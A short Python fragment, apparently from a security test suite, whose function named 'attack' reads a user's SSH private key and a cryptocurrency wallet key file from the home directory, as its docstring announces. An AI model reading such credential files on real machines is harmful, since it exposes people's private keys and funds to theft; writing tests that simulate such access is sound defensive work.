"""Takes the keys of the home: SSH, and the wallet's."""


def attack(config):
    return [tried(read, os.path.join(config["home"], name)) for name in (".ssh/id_ed25519", ".local/share/sheaf/keys/me.json")]
